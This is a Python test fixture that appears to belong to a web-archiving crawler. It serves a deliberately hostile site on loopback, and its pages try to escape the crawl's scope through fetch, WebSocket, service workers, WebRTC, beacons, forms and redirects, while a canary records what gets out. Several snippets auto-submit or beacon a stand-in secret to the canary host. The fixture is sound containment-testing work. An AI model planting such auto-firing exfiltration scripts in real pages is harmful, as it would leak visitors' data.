"""A hostile news site on loopback (127.0.0.61) and the canary that catches it leaving scope.

Its pages try every way a web page has to open a connection somewhere the crawl's profile does
not allow: fetch, XHR, WebSocket, EventSource, service workers (in their install, activate and
fetch events), shared and dedicated workers, window.open, a target=_blank click, iframes, forms,
beacons, hyperlink pings, prefetch, preconnect, DNS prefetch, WebRTC (STUN over UDP, TURN over
TCP), WebTransport, off-site images, scripts and styles, meta refresh, script navigation and HTTP
redirects; and, for Scrapy, off-site links and redirects.

Every attack aims at its own port of the `Canary` on 127.0.0.66 (TCP and UDP), which records
each connection and datagram by attack name; `same-host-port` aims at a port of the site's own
host that the profile does not name (another service on a shared host). The site is only a
stage: whether an attack got out is the canary's to say.
"""

from __future__ import annotations

import logging
import selectors
import socket
import threading
from dataclasses import dataclass, field
from html import escape

from .clock import SiteClock
from .demo import fill_profiles
from .httpcore import DemoHandler, SiteServer
from .request_log import RequestLog

log = logging.getLogger(__name__)

HOST = "127.0.0.61"
CANARY_HOST = "127.0.0.66"
# Attacks a rendered page makes (flows/demo_sites/hostile.py pages under /attack/).
BROWSER_ATTACKS = (
    "fetch", "xhr", "websocket", "eventsource", "sw-install", "sw-activate", "sw-fetch",
    "shared-worker", "worker", "window-open", "popup-click", "iframe", "form", "beacon",
    "ping", "prefetch", "preconnect", "dns-prefetch", "webrtc-turn", "img", "script", "css",
    "meta-refresh", "location", "redirect", "same-host-port",
)  # fmt: skip
UDP_ATTACKS = ("webrtc-stun", "webtransport")
# What only Scrapy meets: links to the canary, an HTTP redirect and a meta refresh to it.
SCRAPY_ATTACKS = ("scrapy-link", "scrapy-redirect", "scrapy-meta-refresh", "sitemap-link")


@dataclass
class CanaryHit:
    attack: str
    protocol: str  # "tcp" or "udp"
    peer: str
    first_bytes: bytes = b""


@dataclass
class Canary:
    """TCP and UDP listeners, one port per attack, recording everything that reaches them."""

    host: str = CANARY_HOST
    hits: list[CanaryHit] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.ports: dict[str, int] = {}
        self.udp_ports: dict[str, int] = {}
        self._selector = selectors.DefaultSelector()
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None

    def listen(self, attack: str, host: str | None = None) -> int:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((host or self.host, 0))
        sock.listen(64)
        sock.setblocking(False)
        self._selector.register(sock, selectors.EVENT_READ, ("accept", attack))
        self.ports[attack] = sock.getsockname()[1]
        return self.ports[attack]

    def listen_udp(self, attack: str) -> int:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((self.host, 0))
        sock.setblocking(False)
        self._selector.register(sock, selectors.EVENT_READ, ("datagram", attack))
        self.udp_ports[attack] = sock.getsockname()[1]
        return self.udp_ports[attack]

    def start(self) -> Canary:
        self._thread = threading.Thread(target=self._run, name="canary", daemon=True)
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=5)
        for key in list(self._selector.get_map().values()):
            key.fileobj.close()
        self._selector.close()

    def seen(self) -> list[CanaryHit]:
        with self._lock:
            return list(self.hits)

    def attacks_seen(self) -> set[str]:
        return {hit.attack for hit in self.seen()}

    def _record(self, hit: CanaryHit) -> None:
        log.warning("canary hit: %s over %s from %s", hit.attack, hit.protocol, hit.peer)
        with self._lock:
            self.hits.append(hit)

    def _run(self) -> None:
        while not self._stop.is_set():
            for key, _ in self._selector.select(timeout=0.1):
                kind, attack = key.data
                try:
                    if kind == "accept":
                        conn, peer = key.fileobj.accept()
                        self._record(CanaryHit(attack, "tcp", f"{peer[0]}:{peer[1]}"))
                        conn.close()  # the connection is the evidence; nothing is served
                    else:
                        data, peer = key.fileobj.recvfrom(2048)
                        self._record(CanaryHit(attack, "udp", f"{peer[0]}:{peer[1]}", data[:64]))
                except OSError:
                    log.debug("canary socket error", exc_info=True)


class HostileSite:
    """The app behind 127.0.0.61: a home page linking attack pages, and what they load."""

    def __init__(self, canary: Canary) -> None:
        self.canary = canary

    def url(self, attack: str, path: str = "") -> str:
        """Where `attack` aims: its canary port (the same-host one is on the site's host)."""
        host = HOST if attack == "same-host-port" else self.canary.host
        return f"http://{host}:{self.canary.ports[attack]}/{attack}{path}"

    def handle(self, h: DemoHandler) -> None:
        route = h.route
        if route == "/":
            self._home(h)
        elif route == "/robots.txt":
            h.send_page(b"User-agent: *\nAllow: /\n", "text/plain; charset=utf-8")
        elif route == "/sitemap.xml":
            self._sitemap(h)
        elif route == "/attack/everything":
            self._page(h, "everything", self._everything())
        elif route == "/attack/form":
            self._page(h, "form", self._form())
        elif route == "/attack/meta-refresh" or route == "/scrapy/meta-refresh":
            attack = "meta-refresh" if route.startswith("/attack/") else "scrapy-meta-refresh"
            head = f'<meta http-equiv="refresh" content="0; url={self.url(attack)}/attack/x">'
            self._page(h, attack, "<p>Moving on.</p>", head=head)
        elif route == "/attack/location":
            script = (
                "<script>addEventListener('load', () => "
                f"setTimeout(() => {{ location.href = {self.url('location')!r}; }}));</script>"
            )
            self._page(h, "location", "<p>Moving on.</p>" + script)
        elif route == "/attack/redirect":
            h.redirect(self.url("redirect", "/attack/x"), 302)
        elif route == "/scrapy/redirect":
            h.redirect(self.url("scrapy-redirect", "/scrapy/x"), 302)
        elif route == "/sw.js":
            h.send_page(self._service_worker().encode(), "text/javascript")
        elif route == "/shared-worker.js":
            js = f"fetch({self.url('shared-worker')!r}).catch(() => 0);"
            h.send_page(js.encode(), "text/javascript")
        elif route == "/worker.js":
            h.send_page(
                f"fetch({self.url('worker')!r}).catch(() => 0);".encode(), "text/javascript"
            )
        elif route == "/in-scope.json":
            h.send_page(b'{"in_scope": true}\n', "application/json")
        else:
            h.send_simple(404, b"not found\n")

    # -- pages -------------------------------------------------------------------------------
    def _page(self, h: DemoHandler, title: str, body: str, head: str = "") -> None:
        # #done (the profile's wait_for) appears once the attack has had its chance: a page
        # that really left is gone by then; one held in scope is archived with its marker.
        done = (
            "<script>setTimeout(() => { const p = document.createElement('p'); p.id = 'done';"
            " p.textContent = 'still here'; document.body.appendChild(p); }, 1500);</script>"
        )
        html = (
            f'<!doctype html><html lang="en"><head><meta charset="utf-8">{head}'
            f"<title>Hostile page: {escape(title)}</title></head><body><h1>Hostile page: "
            f"{escape(title)}</h1><p>This page tries to leave the crawl's scope.</p>"
            f"{body}{done}</body></html>\n"
        )
        h.send_page(html.encode(), "text/html; charset=utf-8")

    def _home(self, h: DemoHandler) -> None:
        pages = ["everything", "form", "meta-refresh", "location", "redirect"]
        links = [f'<a href="/attack/{p}">{p}</a>' for p in pages]
        links += ['<a href="/scrapy/redirect">r</a>', '<a href="/scrapy/meta-refresh">m</a>']
        links += [
            f'<a href="{self.url("scrapy-link", "/attack/x")}">off-site story</a>',
            f'<a href="{self.url("same-host-port", "/attack/x")}">same host, other port</a>',
        ]
        self._page(h, "home", "<ul>" + "".join(f"<li>{a}</li>" for a in links) + "</ul>")

    def _sitemap(self, h: DemoHandler) -> None:
        base = h.server.base_url
        urls = [f"{base}/attack/everything", self.url("sitemap-link", "/attack/x")]
        locs = "".join(f"<url><loc>{escape(u)}</loc></url>" for u in urls)
        xml = (
            '<?xml version="1.0" encoding="UTF-8"?>'
            f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{locs}</urlset>\n'
        )
        h.send_page(xml.encode(), "application/xml")

    def _form(self) -> str:
        return (
            f'<form id="f" method="post" action="{self.url("form")}">'
            '<input name="secret" value="archive-operator-cookie"></form>'
            "<script>addEventListener('load', () => "
            "setTimeout(() => document.getElementById('f').submit()));</script>"
        )

    def _everything(self) -> str:
        u = self.url
        stun = f"stun:{self.canary.host}:{self.canary.udp_ports['webrtc-stun']}"
        turn = f"turn:{self.canary.host}:{self.canary.ports['webrtc-turn']}?transport=tcp"
        transport = f"https://{self.canary.host}:{self.canary.udp_ports['webtransport']}/wt"
        ws = u("websocket").replace("http://", "ws://")
        markup = f"""
<link rel="stylesheet" href="{u("css")}">
<link rel="prefetch" href="{u("prefetch")}">
<link rel="preconnect" href="{u("preconnect")}">
<link rel="dns-prefetch" href="{u("dns-prefetch")}">
<link rel="dns-prefetch" href="//dns-prefetch.canary.invalid">
<img src="{u("img")}" alt="">
<script src="{u("script")}"></script>
<iframe src="{u("iframe")}"></iframe>
<a id="popup" href="{u("popup-click")}" target="_blank">popup</a>
<a id="ping" href="#pinged" ping="{u("ping")}">ping</a>
<p id="report"></p>
"""
        script = f"""
<script>
const tried = [];
function attempt(name, action) {{
  try {{ action(); tried.push(name); }} catch (e) {{ tried.push(name + ':' + e.name); }}
}}
const quiet = (p) => p && p.catch && p.catch(() => 0);
attempt('fetch', () => quiet(fetch({u("fetch")!r}, {{mode: 'no-cors'}})));
attempt('same-host-port', () => quiet(fetch({u("same-host-port")!r}, {{mode: 'no-cors'}})));
attempt('xhr', () => {{ const x = new XMLHttpRequest(); x.open('GET', {u("xhr")!r}); x.send(); }});
attempt('websocket', () => new WebSocket({ws!r}));
attempt('eventsource', () => new EventSource({u("eventsource")!r}));
attempt('beacon', () => navigator.sendBeacon({u("beacon")!r}, 'archive-operator-cookie'));
attempt('window-open', () => window.open({u("window-open")!r}));
attempt('popup-click', () => document.getElementById('popup').click());
attempt('ping', () => document.getElementById('ping').click());
attempt('worker', () => new Worker('/worker.js'));
attempt('shared-worker', () => new SharedWorker('/shared-worker.js'));
attempt('service-worker', () => quiet(navigator.serviceWorker.register('/sw.js')
  .then(() => navigator.serviceWorker.ready)
  .then(() => new Promise((ok) => setTimeout(ok, 300)))
  .then(() => fetch('/in-scope.json'))));
attempt('webrtc', () => {{
  const pc = new RTCPeerConnection({{iceServers: [
    {{urls: {stun!r}}},
    {{urls: {turn!r}, username: 'u', credential: 'p'}}]}});
  pc.createDataChannel('x');
  quiet(pc.createOffer().then((offer) => pc.setLocalDescription(offer)));
}});
attempt('webtransport', () => {{ const t = new WebTransport({transport!r}); quiet(t.ready); }});
document.getElementById('report').textContent = 'tried: ' + tried.join(', ');
</script>
"""
        return markup + script

    def _service_worker(self) -> str:
        u = self.url
        return f"""
self.addEventListener('install', (event) => {{
  event.waitUntil(fetch({u("sw-install")!r}).catch(() => 0).then(() => self.skipWaiting()));
}});
self.addEventListener('activate', (event) => {{
  event.waitUntil(fetch({u("sw-activate")!r}).catch(() => 0).then(() => self.clients.claim()));
}});
self.addEventListener('fetch', (event) => {{
  event.waitUntil(fetch({u("sw-fetch")!r}).catch(() => 0));
}});
"""


class HostileSites:
    """The hostile site and its canary, started together; `write_profile` for crawls."""

    def __init__(self) -> None:
        self.clock = SiteClock()
        self.request_log = RequestLog()
        self.canary = Canary()
        self.site = HostileSite(self.canary)
        self._server: SiteServer | None = None
        self._thread: threading.Thread | None = None

    def start(self) -> HostileSites:
        for attack in (*BROWSER_ATTACKS, *SCRAPY_ATTACKS):
            self.canary.listen(attack, HOST if attack == "same-host-port" else None)
        for attack in UDP_ATTACKS:
            self.canary.listen_udp(attack)
        self.canary.start()
        self._server = SiteServer(
            HOST, 0, self.site, site="hostile", clock=self.clock, request_log=self.request_log
        )
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True
        )
        self._thread.start()
        return self

    def stop(self) -> None:
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()
            self._server = None
        self.canary.stop()

    def __enter__(self) -> HostileSites:
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()

    @property
    def base_url(self) -> str:
        assert self._server is not None, "HostileSites not started"
        return self._server.base_url

    def write_profile(self, directory):
        """The hostile profile with this run's address; returns its path."""
        sites = {"hostile": ("hostile.toml", "hostile.toml")}
        written = fill_profiles(directory, sites, lambda _: self.base_url, {"hostile": HOST})
        return written["hostile"]
